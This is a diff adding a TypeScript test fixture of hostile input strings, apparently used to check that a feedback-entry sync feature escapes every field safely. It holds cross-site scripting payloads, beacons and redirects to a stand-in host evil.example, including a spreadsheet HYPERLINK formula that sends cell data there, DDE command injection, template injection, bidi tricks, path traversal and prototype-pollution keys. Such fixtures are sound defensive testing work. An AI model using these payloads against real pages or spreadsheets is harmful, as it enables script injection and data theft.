@@ -1,0 +1,53 @@
+import type { FeedbackEntry } from '../../../src/model/sync/feedback-entry.ts';
+
+/** Text that does something where it is not taken as text: in a page, in an attribute, an address, a script, a table. */
+const texts: readonly string[] = [
+  '<script>hacked=1</script>',
+  '</script><script>hacked=1</script>',
+  '</title></style></textarea></code></pre><img src=x onerror=hacked=1>',
+  '<img src=https://evil.example/seen.png>',
+  '<svg onload=hacked=1><animate onbegin=hacked=1 attributeName=x>',
+  '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
+  '<base href=https://evil.example/><meta http-equiv=refresh content="0;url=https://evil.example">',
+  '<form action=https://evil.example><button autofocus onfocus=hacked=1>x</form>',
+  '" onmouseover="hacked=1" autofocus onfocus="hacked=1" x="',
+  "' onfocus='hacked=1' autofocus x='",
+  '` onfocus=`hacked=1`',
+  '&lt;script&gt;hacked=1&lt;/script&gt; &#60;script>',
+  'javascript:hacked=1',
+  'JaVa\tScRiPt:hacked=1//',
+  'data:text/html,<script>opener.hacked=1</script>',
+  '//evil.example/%2e%2e',
+  'https://user@evil.example/" onclick="hacked=1',
+  '-->]]><![CDATA[<script>hacked=1</script>',
+  '{{constructor.constructor("hacked=1")()}} \u0024{hacked=1} <%= hacked=1 %>',
+  '=HYPERLINK("https://evil.example?"&A1,"open")',
+  "+cmd|' /C calc'!A0",
+  '@SUM(1+1)*cmd',
+  'if (admin\u202e \u2066// none\u2069 \u2066) { \u202d',
+  'a\u0000b\u0008c\u001b[31md\u0085\u2028e\u2029f\u00ad\ufeff',
+  '\ud800 lone \udc00',
+  '__proto__',
+  '..',
+  '../../sign-out',
+  '?words=x#y%00%',
+  '👩‍👩‍👧‍👦 e\u0301 العربية עברית 日本語のページ',
+  `long${'<b>x'.repeat(250_000)}`,
+  'w'.repeat(1_000_000),
+];
+
+/** The same in every field of an entry. */
+export const hostileEntries: readonly FeedbackEntry[] = texts.map((text, index) => ({
+  id: text.slice(0, 100_000),
+  path: text,
+  comment: text,
+  createdAt: new Date(Date.UTC(2026, 10, 20, 8, index)).toISOString(),
+  source: text,
+  status: text,
+  helpful: null,
+  contact: text,
+  code: text,
+  filename: text,
+  lang: text,
+  extra: { [text.slice(0, 100)]: text },
+}));
